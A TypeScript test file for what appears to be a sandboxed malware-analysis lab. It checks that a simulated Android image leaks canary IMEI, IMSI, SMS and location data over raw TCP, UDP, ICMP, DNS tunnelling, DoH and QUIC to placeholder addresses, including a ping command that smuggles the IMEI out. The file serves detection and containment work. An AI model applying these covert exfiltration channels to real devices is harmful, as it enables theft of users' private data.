import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import * as mockttp from 'mockttp';
import { decodeFrame, type TransportSegment } from '../../src/correlate/readers/packet.ts';
import type { InstrumentationEvent } from '../../src/android/instrumentation-events.ts';
import { labImageSchema } from '../../src/android/lab-image.ts';
import { startBehaviours } from '../../src/lab/behaviour/index.ts';
import { silentLogger } from '../../src/log.ts';
import { until } from '../support/lab-bench.ts';
import { waitForLine } from '../support/lab-process.ts';
import { makeNamespacePair, namespacesUnavailable } from '../support/netns-pair.ts';
import { readPcapFrames } from '../support/pcap-frames.ts';
import { issueServerCertificate } from '../support/test-certs.ts';
import { deviceHost, ofType, startDnsServer } from '../support/lab-behaviour-test-network.ts';
import type { DeviceConfig, DeviceResult } from '../support/lab-netns-device.ts';
import type { InternetConfig, InternetSeen } from '../support/lab-netns-internet.ts';

// The canary data of deviceHost (lab-behaviour-test-network.ts).
const IMEI = '356938035643809';
const IMSI = '001010000012345';
const PHONE = '+15555550100';
const ANDROID_ID = 'a1b2c3d4e5f60718';
const SMS_BODY = 'canary body 5e1d meet at noon';

// bypass-2020's destinations, and where the test's DNS servers send its names.
const RAW_TCP = '203.0.113.50';
const UDP_BEACON = '203.0.113.60';
const PING_TARGET = '203.0.113.70';
const OWN_RESOLVER = '198.51.100.54';
const DOH_SERVER = '198.51.100.53';
const SYNC_HOST = 'sync.kestrel-cloud.example';
const SYNC_IP = '203.0.113.80';
const OWN_RESOLVER_ANSWER = '203.0.113.81';

const BEHAVIOURS = [
  'raw-tcp-checkin',
  'udp-beacon',
  'icmp-beacon',
  'dns-own-resolver',
  'doh-literal',
  'sync-quic-first',
];

/** The labels before the zone and the sequence number, joined: the tunnel's hex text. */
function tunnelHex(name: string, zone: string): string {
  return name
    .slice(0, -zone.length - 1)
    .split('.')
    .slice(0, -1)
    .join('');
}

/** The name asked in a DNS query message (one question). */
function queryName(message: Buffer): string {
  const labels: string[] = [];
  for (let at = 12; (message[at] ?? 0) > 0; at += 1 + (message[at] ?? 0)) {
    labels.push(message.subarray(at + 1, at + 1 + (message[at] ?? 0)).toString('latin1'));
  }
  return labels.join('.');
}

function eventsOf(events: InstrumentationEvent[], pkg: string): InstrumentationEvent[] {
  return events.filter((e) => e.package === pkg);
}

test(
  'bypass-2020 in a namespace: raw TCP, UDP, ICMP, its own resolver, DoH and QUIC leave directly to TEST-NET addresses',
  { skip: namespacesUnavailable() },
  async (t) => {
    const root = await mkdtemp(join(tmpdir(), 'lab-bypass-'));
    t.after(() => rm(root, { recursive: true, force: true }));
    const tls = await issueServerCertificate([DOH_SERVER, SYNC_HOST]);
    const net = await makeNamespacePair(t, [
      RAW_TCP,
      UDP_BEACON,
      PING_TARGET,
      OWN_RESOLVER,
      DOH_SERVER,
      SYNC_IP,
    ]);

    // Everything crossing into the internet namespace, as the cage's edge recorder would see it.
    const pcap = join(root, 'internet.pcap');
    const recorder = net.spawn(net.internet, 'dumpcap', ['-q', '-P', '-i', 'up0', '-w', pcap]);
    await until(
      'dumpcap writing its pcap header',
      async () => ((await stat(pcap).catch(() => undefined))?.size ?? 0) >= 24 || undefined,
      10_000,
    );
    const internetConfig: InternetConfig = {
      dns: [
        { ip: net.gateway, answer: SYNC_IP },
        { ip: OWN_RESOLVER, answer: OWN_RESOLVER_ANSWER },
      ],
      tcp: [{ ip: RAW_TCP, port: 5555 }],
      https: [DOH_SERVER, SYNC_IP].map((ip) => ({
        ip,
        port: 443,
        key: tls.keyPem,
        cert: tls.certPem,
      })),
    };
    const internet = net.spawn(
      net.internet,
      process.execPath,
      ['--import', 'tsx', 'test/support/lab-netns-internet.ts', JSON.stringify(internetConfig)],
      { cwd: process.cwd() },
    );
    await waitForLine(internet, /^ready$/, 20_000);

    const deviceConfig: DeviceConfig = {
      imagePath: 'images/lab/bypass-2020.json',
      behaviours: BEHAVIOURS,
      dnsServer: { host: net.gateway, port: 53 },
      trusted: [tls.caPem],
      sendTimeoutMs: 10_000,
    };
    const device = await net.spawn(
      net.device,
      process.execPath,
      ['--import', 'tsx', 'test/support/lab-netns-device.ts', JSON.stringify(deviceConfig)],
      { cwd: process.cwd() },
    );
    assert.equal(device.exitCode, 0, String(device.stderr));
    const { outcomes, events } = JSON.parse(String(device.stdout)) as DeviceResult;
    for (const outcome of outcomes) assert.equal(outcome.ok, true, JSON.stringify(outcome));

    internet.kill('SIGTERM');
    const seen = JSON.parse(
      String((await internet).stdout)
        .trim()
        .split('\n')
        .at(-1) ?? '',
    ) as InternetSeen;
    // dumpcap writes what it read every 100 ms or so; stop it once the last send is on disk.
    const readPackets = async (): Promise<TransportSegment[]> => {
      const { linkType, frames } = await readPcapFrames(pcap);
      return frames.flatMap((frame) => {
        const decoded = decodeFrame(linkType, frame);
        return 'segment' in decoded ? [decoded.segment] : [];
      });
    };
    await until(
      'the end of the HTTPS fallback of the QUIC upload in the pcap',
      async () =>
        (await readPackets()).some(
          (p) =>
            p.protocol === 'tcp' &&
            (p.src === SYNC_IP || p.dst === SYNC_IP) &&
            (p.flags?.fin === true || p.flags?.rst === true),
        ) || undefined,
      10_000,
    );
    recorder.kill('SIGINT');
    await recorder;
    const packets = await readPackets();
    const fromDevice = packets.filter((p) => p.src === net.deviceIp);

    // Nothing left the device for any address but the image's and its DNS server.
    const expected = new Set([RAW_TCP, UDP_BEACON, PING_TARGET, OWN_RESOLVER, DOH_SERVER, SYNC_IP]);
    expected.add(net.gateway);
    assert.deepEqual(
      [...new Set(fromDevice.map((p) => p.dst))].filter((dst) => !expected.has(dst)),
      [],
    );

    const agent = eventsOf(events, 'com.kestrel.agent');
    const cloud = eventsOf(events, 'com.kestrel.cloudsync');
    // The device's resolver was asked only for the QUIC host: literals are never looked up, and
    // the app's own resolver bypasses it.
    assert.deepEqual(
      ofType(events, 'dns.query').map((q) => q.name),
      [SYNC_HOST, SYNC_HOST],
    );
    assert.deepEqual(seen.dns.find((d) => d.server === net.gateway)?.names, [SYNC_HOST, SYNC_HOST]);

    // (a) Raw TCP to an address literal: base64 of the JSON payload, no lookup.
    const raw = seen.tcp.find((c) => c.ip === RAW_TCP && c.port === 5555);
    assert.ok(raw, 'the raw TCP listener got a connection');
    const checkin = JSON.parse(
      Buffer.from(Buffer.from(raw.data, 'base64').toString('latin1'), 'base64').toString('utf8'),
    ) as { imei: string; imsi: string };
    assert.equal(checkin.imei, IMEI);
    assert.equal(checkin.imsi, IMSI);
    const connect = ofType(agent, 'net.connect').find((c) => c.ip === RAW_TCP);
    assert.deepEqual(connect && { ip: connect.ip, port: connect.port, host: connect.host }, {
      ip: RAW_TCP,
      port: 5555,
      host: undefined,
    });
    assert.equal(
      ofType(agent, 'net.send').find((s) => s.ip === RAW_TCP)?.data,
      raw.data,
      'net.send states the bytes the server got',
    );

    // (e) One UDP datagram to an address literal, JSON with the IMSI and the location.
    const beacon = fromDevice.find((p) => p.protocol === 'udp' && p.dst === UDP_BEACON);
    assert.equal(beacon?.dstPort, 9999);
    assert.deepEqual(JSON.parse(beacon.payload.toString('utf8')), {
      imsi: IMSI,
      location: { lat: 54.69, lng: 25.28 },
    });
    assert.equal(
      ofType(agent, 'net.send').find((s) => s.ip === UDP_BEACON)?.data,
      beacon.payload.toString('base64'),
    );

    // (f) An ICMP echo whose data repeats the IMEI, sent by the system ping (`exec`).
    const echo = fromDevice.find((p) => p.protocol === 'icmp' && p.dst === PING_TARGET);
    assert.ok(echo?.payload.includes(IMEI), 'the echo data holds the IMEI');
    assert.deepEqual(
      ofType(agent, 'exec').map((e) => e.command),
      [`ping -c 1 -W 1 -p ${Buffer.from(IMEI).toString('hex')} ${PING_TARGET}`],
    );
    assert.match(detail(outcomes, 'icmp-beacon'), /answered/);

    // (b) Its own resolver: hex of the JSON in names asked of 198.51.100.54, in datagrams it wrote.
    const ownNames = seen.dns.find((d) => d.server === OWN_RESOLVER)?.names ?? [];
    assert.ok(ownNames.length > 0, 'the hard-coded resolver was asked');
    const tunnelled = JSON.parse(
      Buffer.from(
        ownNames.map((n) => tunnelHex(n, 't.kestrel-metrics.example')).join(''),
        'hex',
      ).toString('utf8'),
    ) as { phone_number: string; android_id: string };
    assert.deepEqual(tunnelled, { phone_number: PHONE, android_id: ANDROID_ID });
    const resolverSends = ofType(cloud, 'net.send').filter((s) => s.ip === OWN_RESOLVER);
    assert.deepEqual(
      resolverSends.map((s) => [s.port, queryName(Buffer.from(s.data, 'base64'))]),
      ownNames.map((n) => [53, n]),
    );

    // (c) DNS over HTTPS to an address literal: no lookup, no SNI, the IMEI in the asked name.
    const doh = seen.https.filter((r) => r.ip === DOH_SERVER);
    assert.equal(doh.length, 1);
    assert.equal(doh[0]?.servername, undefined);
    assert.equal(doh[0]?.method, 'POST');
    assert.equal(doh[0]?.url, '/dns-query');
    assert.equal(doh[0]?.headers['content-type'], 'application/dns-message');
    const dohName = queryName(Buffer.from(doh[0]?.body ?? '', 'base64'));
    assert.equal(
      Buffer.from(tunnelHex(dohName, 'd.kestrel-metrics.example'), 'hex').toString(),
      IMEI,
    );
    assert.ok(
      ofType(cloud, 'net.connect').some((c) => c.ip === DOH_SERVER && c.host === undefined),
    );
    assert.ok(ofType(cloud, 'tls.write').some((w) => w.ip === DOH_SERVER));

    // (d) QUIC first: an Initial datagram to UDP 443 of the resolved host, refused (nothing
    // listens there), then the same upload over HTTPS with SNI.
    const initial = fromDevice.find(
      (p) => p.protocol === 'udp' && p.dst === SYNC_IP && p.dstPort === 443,
    );
    assert.ok(initial, 'a datagram went to UDP 443');
    assert.ok(initial.payload.length >= 1200, 'padded as a client Initial must be');
    assert.equal((initial.payload[0] ?? 0) & 0xb0, 0x80, 'a long header of type Initial');
    assert.equal(initial.payload.readUInt32BE(1), 1, 'QUIC version 1');
    assert.match(detail(outcomes, 'sync-quic-first'), /refused.*then HTTP 200/);
    const sync = seen.https.find((r) => r.ip === SYNC_IP);
    assert.equal(sync?.servername, SYNC_HOST);
    assert.equal(sync.url, '/v2/sync');
    const blob = (JSON.parse(Buffer.from(sync.body, 'base64').toString()) as { blob: string }).blob;
    const uploaded = JSON.parse(gunzipSync(Buffer.from(blob, 'base64')).toString()) as {
      sms: Array<{ body: string }>;
      imei: string;
    };
    assert.equal(uploaded.sms[0]?.body, SMS_BODY);
    assert.equal(uploaded.imei, IMEI);
    const syncSends = cloud.flatMap((e) =>
      (e.type === 'net.send' || e.type === 'net.connect') && e.ip === SYNC_IP
        ? [[e.type, e.port]]
        : [],
    );
    assert.deepEqual(
      syncSends,
      [
        ['net.send', 443],
        ['net.connect', 443],
      ],
      'the QUIC datagram is stated before the fallback connection',
    );
  },
);

function detail(outcomes: DeviceResult['outcomes'], behaviour: string): string {
  const outcome = outcomes.find((o) => o.behaviour === behaviour);
  return outcome?.ok === true ? outcome.detail : JSON.stringify(outcome);
}

test('uncaged, sends only the cage can carry are refused, and QUIC is not tried before the proxied HTTPS', async (t) => {
  const ca = await mockttp.generateCACertificate();
  const proxy = mockttp.getLocal({ https: { key: ca.key, cert: ca.cert } });
  await proxy.start();
  t.after(() => proxy.stop());
  const dns = await startDnsServer();
  t.after(() => dns.close());
  const endpoint = await proxy.forPost(`https://${SYNC_HOST}/v2/sync`).thenReply(200, '{}');
  const image = labImageSchema.parse(
    JSON.parse(await readFile('images/lab/bypass-2020.json', 'utf8')),
  );
  const host = deviceHost(
    {
      dnsServer: { host: '127.0.0.1', port: dns.port },
      httpProxy: { host: '127.0.0.1', port: proxy.port },
    },
    [ca.cert],
  );
  const runtime = startBehaviours(image, host, silentLogger(), { sendTimeoutMs: 10_000 });
  const refused = await Promise.all(
    ['udp-beacon', 'icmp-beacon', 'dns-own-resolver'].map((id) => runtime.runNow(id)),
  );
  const sync = await runtime.runNow('sync-quic-first');
  await runtime.stop();
  for (const outcome of refused) {
    assert.ok(
      !outcome.ok && outcome.error.startsWith('lab-send-needs-cage'),
      JSON.stringify(outcome),
    );
  }
  assert.ok(sync.ok, JSON.stringify(sync));
  assert.match(sync.detail, /^QUIC not tried \(uncaged\), then HTTP 200/);
  assert.equal((await endpoint.getSeenRequests()).length, 1);
  // Nothing was sent but the proxied upload: no datagram, no ping, no query of its own.
  assert.deepEqual(
    host.events
      .filter((e) => ['net.send', 'net.connect', 'exec', 'tls.write'].includes(e.type))
      .map((e) => e.type),
    ['net.connect', 'tls.write'],
  );
  assert.deepEqual(dns.names, [SYNC_HOST]);
});
